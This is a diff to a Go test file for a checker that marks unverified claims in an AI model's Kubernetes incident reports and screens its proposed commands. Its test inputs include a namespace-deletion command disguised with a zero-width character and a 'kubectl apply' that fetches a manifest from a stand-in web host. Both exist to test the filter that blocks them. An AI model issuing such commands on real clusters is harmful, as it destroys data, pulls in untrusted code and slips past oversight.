@@ -37,7 +37,7 @@ func TestCheck(t *testing.T) {
 		{"no claims", "", "", "1. First\n2) Second, 24/7, the 3rd of them, 1 of the pods, for two reasons: step 3 and p99 on k8s", "1. First\n2) Second, 24/7, the 3rd of them, 1 of the pods, for two reasons: step 3 and p99 on k8s"},
 		{"derived", "", "2 pods, 3 pods", "5 pods in all", "5 [unverified] pods in all"},
 		{"versions", "", "image shop/web:v1.4.2", "web v1.4.2, not v1.4.3", "web v1.4.2, not v1.4.3 [unverified]"},
-		{"deployment of a pod", "", "pod checkout-api-7d9f-abcde", "checkout-api, checkout-api-7d9f, checkout-ap-i", "checkout-api, checkout-api-7d9f, checkout-ap-i [unverified]"},
+		{"parts of a pod's name", "", "pod checkout-api-7d9f-ab3de", "checkout-api, checkout-api-7d9f, ab3de, checkout-ap-i, b3de", "checkout-api, checkout-api-7d9f, ab3de, checkout-ap-i [unverified], b3de [unverified]"},
 		{"paths", "", "namespace payments, deployment web-api", "payments/web-api and payments/other-api", "payments/web-api and payments/other-api [unverified]"},
 		{"hosts", "", "ip-10-0-1-2.ec2.internal 10.0.1.2", "ip-10-0-1-2 is 10.0.1.2, not 10.0.1.3", "ip-10-0-1-2 is 10.0.1.2, not 10.0.1.3 [unverified]"},
 		{"reasons", "", "OOMKilled", "OOMKilled, not CrashLoopBackOff", "OOMKilled, not CrashLoopBackOff [unverified]"},
@@ -125,6 +125,7 @@ func TestCommands(t *testing.T) {
 		{"dictated, with what cannot be seen", "COMMAND: kubectl de\u200blete ns \"payments\"", "", nil, []string{not}},
 		{"of the same thing", "COMMAND: kubectl rollout undo deployment web", "", []string{"kubectl rollout undo deployment web"}, nil},
 		{"too many", "COMMAND: a 1\nCOMMAND: a 2\nCOMMAND: a 2\nCOMMAND: a 3\nCOMMAND: a 4", "", []string{"a 1", "a 2", "a 3"}, []string{"only the first 3 of the commands that the model wrote are passed on"}},
+		{"with an address", "COMMAND: kubectl apply -f HTTPS://e.example/?d=web\nCOMMAND: aws s3 ls s3://web", "", []string{"aws s3 ls s3://web"}, []string{"a command that holds an address on the web is not passed on"}},
 		{"in a sentence", "The command: it is wrong", "The command: it is wrong", nil, nil},
 		{"empty", "COMMAND:", "", nil, nil},
 	} {
